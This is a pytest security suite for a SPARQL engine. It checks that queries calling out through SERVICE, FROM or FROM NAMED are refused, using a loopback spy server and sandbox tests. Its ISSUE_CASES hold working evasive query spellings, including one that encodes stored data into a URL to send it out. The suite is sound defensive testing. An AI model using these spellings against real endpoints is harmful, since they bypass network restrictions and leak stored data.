"""Differential security suite: thousands of hostile spellings, a loopback spy, every entry point.

Each spelling asks the engine to reach the spy (SERVICE, FROM, FROM NAMED). Without
--allow-network every one must be refused with one ``Error:`` line and exit code 1, and the
spy must see no connection. A positive control runs a sample with --allow-network and
shows the spellings do reach the spy when allowed, so a silent spy means something.
"""

from __future__ import annotations

import contextlib
import platform
import subprocess
import sys
from pathlib import Path

import pytest
from external import need
from hostile import all_spellings, glued_spellings
from spy import Spy

from csrgraph.errors import QueryError, StoreError
from csrgraph.sparql import check, evaluate, run_query, sandbox

#: The spellings the issue reported reaching a server (``{url}`` is the spy).
ISSUE_CASES = {
    "keyword-prefix": "PREFIX : <{url}a> PREFIX SERVICE: <urn:x:> "
    "SELECT * { SERVICE: { ?s ?p ?o } }",
    "comment-ends-at-cr": "SELECT * { #\rSERVICE <{url}b> { ?s ?p ?o } }",
    "escaped-quote-in-string": 'SELECT * { FILTER("\\u0022") SERVICE <{url}c> { ?s ?p ?o } '
    'FILTER("\\u0022") }',
    "escaped-newline-in-string": 'SELECT * { FILTER("\\u000A#") SERVICE <{url}d> { ?s ?p ?o } }',
    "lateral-bind-exfiltration": 'SELECT * { { ?s ?p ?o BIND(IRI(CONCAT("{url}", '
    "ENCODE_FOR_URI(STR(?o)))) AS ?e) } LATERAL { SERVICE ?e { } } } LIMIT 1",
    "from": "SELECT * FROM <{url}g> { ?s ?p ?o }",
    "from-named": "SELECT * FROM NAMED <{url}g> { GRAPH ?g { ?s ?p ?o } }",
}


@pytest.fixture(scope="module")
def spy():
    """One spy for the module; tests compare its count before and after."""
    with Spy() as server:
        yield server


def _refused(text: str) -> QueryError:
    with pytest.raises(QueryError) as caught:
        run_query(text)
    assert caught.value.exit_code == 1
    assert "\n" not in str(caught.value)
    return caught.value


def _engine(text: str) -> object:
    """Evaluate with no check at all, network allowed: what the engine does with the text."""
    prefixes = {"spy": "http://127.0.0.1:9/"}
    return evaluate.here(text, {}, prefixes, [], "<query>", None, True)


def test_the_generator_makes_thousands_of_spellings() -> None:
    spellings = all_spellings("http://127.0.0.1:9/")
    assert len(spellings) >= 5000
    assert len(set(spellings)) == len(spellings)


def test_every_generated_spelling_is_refused_by_the_check() -> None:
    spellings = all_spellings("http://127.0.0.1:9/")
    for text in spellings:
        with pytest.raises(QueryError) as caught:
            check(text)
        assert caught.value.exit_code == 1, text
        assert "\n" not in str(caught.value), text


@pytest.mark.parametrize("case", sorted(ISSUE_CASES))
def test_issue_case_is_refused_and_the_spy_stays_silent(spy: Spy, case: str) -> None:
    before = spy.count
    _refused(ISSUE_CASES[case].replace("{url}", spy.url))
    assert spy.count == before


@pytest.mark.parametrize("case", [c for c in sorted(ISSUE_CASES) if not c.startswith("from")])
def test_issue_case_reaches_the_spy_when_allowed(spy: Spy, case: str) -> None:
    """Positive control: the engine itself reads the spelling as a SERVICE call."""
    before = spy.count
    text = ISSUE_CASES[case].replace("{url}", spy.url)
    with contextlib.suppress(Exception):
        _engine(text)
    assert spy.count > before


def test_a_sample_through_the_engine_is_refused_and_reaches_the_spy_when_allowed(
    spy: Spy,
) -> None:
    spellings = all_spellings(spy.url)
    sample = spellings[:: max(1, len(spellings) // 150)] + glued_spellings(spy.url)
    assert len(sample) >= 150
    before = spy.count
    for text in sample:
        _refused(text)
    assert spy.count == before
    reached = 0
    for text in sample[::4]:
        start = spy.count
        with contextlib.suppress(Exception):
            _engine(text)
        reached += spy.count > start
    assert reached >= 10  # the spy and the generator work


@pytest.mark.external
def test_the_evaluation_child_has_no_network_even_if_the_check_is_bypassed(
    spy: Spy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The namespace alone (seccomp switched off, check bypassed) keeps the spy silent."""
    need(
        "unprivileged network namespaces",
        sandbox.network_isolation_available(),
        "a Linux kernel that allows them, e.g. sysctl kernel.unprivileged_userns_clone=1",
    )
    monkeypatch.setattr(sandbox, "block_sockets", lambda: False)
    before = spy.count
    text = f"SELECT * {{ SERVICE <{spy.url}z> {{ ?s ?p ?o }} }}"
    with pytest.raises(StoreError, match="Network is unreachable"):
        evaluate.in_child(text, {}, {}, [], "<query>", "SELECT", 30.0)
    assert spy.count == before


@pytest.mark.skipif(
    not sys.platform.startswith("linux") or platform.machine() not in ("x86_64", "aarch64"),
    reason="the seccomp filter is written for Linux on x86-64 and AArch64",
)
def test_without_a_namespace_the_child_still_cannot_connect(
    spy: Spy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The seccomp filter alone (namespaces switched off, check bypassed) keeps the spy silent."""
    monkeypatch.setattr(sandbox, "isolate_network", lambda: False)
    before = spy.count
    text = f"SELECT * {{ SERVICE <{spy.url}y> {{ ?s ?p ?o }} }}"
    with pytest.raises(QueryError, match="Permission denied"):
        evaluate.in_child(text, {}, {}, [], "<query>", "SELECT", 30.0)
    assert spy.count == before


ENTRY_SAMPLE = 8


def _entry_sample(url: str) -> list[str]:
    spellings = all_spellings(url)
    return [
        *spellings[:: len(spellings) // ENTRY_SAMPLE][:ENTRY_SAMPLE],
        ISSUE_CASES["comment-ends-at-cr"].replace("{url}", url),
    ]


@pytest.mark.parametrize("how", ["-e", "file", "stdin", "timeout", "store-dir"])
def test_cli_entry_points_refuse_with_one_error_line(
    spy: Spy, cli, tmp_path: Path, how: str, index_dir: Path
) -> None:
    before = spy.count
    for number, text in enumerate(_entry_sample(spy.url)):
        stdin = None
        if how == "-e":
            args = ["query", "-e", text]
        elif how == "file":
            path = tmp_path / f"q{number}.rq"
            path.write_text(text, encoding="utf-8", newline="")
            args = ["query", str(path)]
        elif how == "stdin":
            args, stdin = ["query", "-"], text
        elif how == "timeout":
            args = ["query", "--timeout", "5", "-e", text]
        else:
            args = ["query", "--store-dir", str(index_dir), "-e", text]
        result = cli(*args, input=stdin)
        assert result.exit_code == 1, (text, result.stderr)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert spy.count == before


def test_the_installed_command_refuses_in_a_subprocess(spy: Spy) -> None:
    before = spy.count
    for text in _entry_sample(spy.url)[:3]:
        done = subprocess.run(
            [str(Path(sys.executable).with_name("csrgraph")), "query", "-e", text],
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 1, done.stderr
        assert done.stderr.startswith("Error: ") and done.stderr.count("\n") == 1
    assert spy.count == before


@pytest.fixture(scope="module")
def index_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index of a small fixture file, for --store-dir."""
    from csrgraph.graph.index import build_index

    folder = tmp_path_factory.mktemp("idx") / "store"
    build_index([Path(__file__).parent / "fixtures" / "mini-data.ttl"], folder)
    return folder


def test_whatever_the_check_accepts_the_engine_does_not_connect(spy: Spy) -> None:
    """Mutate benign queries (SERVICE only inside strings and comments) at random.

    An edit may bring the clause out of its string or comment. Every mutant the check
    accepts is given to the raw engine (no check, network allowed, a store with one
    triple): the spy must stay silent. The benign bases are accepted as they are.
    """
    import pyoxigraph as ox
    from hostile import benign_hidden, mutants

    base = benign_hidden(spy.url)
    assert len(base) >= 30
    for text in base:
        check(text)
    store = ox.Store()
    store.add(ox.Quad(ox.NamedNode("urn:s"), ox.NamedNode("urn:p"), ox.Literal("o")))
    accepted = evaluated = 0
    before = spy.count
    for text in mutants(base, spy.url, 4000, seed=10):
        try:
            check(text)
        except QueryError:
            continue
        accepted += 1
        try:
            list(store.query(text, prefixes={"spy": spy.url}))
            evaluated += 1
        except (SyntaxError, OSError, RuntimeError, ValueError):
            pass
        assert spy.count == before, text
    assert accepted >= 100 and evaluated >= 50  # the property was exercised


@pytest.mark.parametrize(
    "text",
    [
        "PREFIX ex: <urn:x:> SELECT * { ?s ex:a\u00d7 SERVICE <http://127.0.0.1:9/> { } }",
        "SELECT * { ?a\u00d7SERVICE <http://127.0.0.1:9/> { } }",
        "SELECT * { _:b\u00f7SERVICE <http://127.0.0.1:9/> { } }",
    ],
    ids=["local-part", "variable", "blank-node"],
)
def test_a_name_the_engine_ends_early_is_refused(text: str) -> None:
    with pytest.raises(QueryError, match=r"cannot stand in a name|SERVICE is refused"):
        check(text)


def test_names_beyond_ascii_are_accepted() -> None:
    text = (
        "PREFIX ex: <urn:x:> SELECT ?stra\u00dfe { ?stra\u00dfe ex:Besch\u00e4ftigung _:b\u00e4 }"
    )
    assert check(text).form == "SELECT"
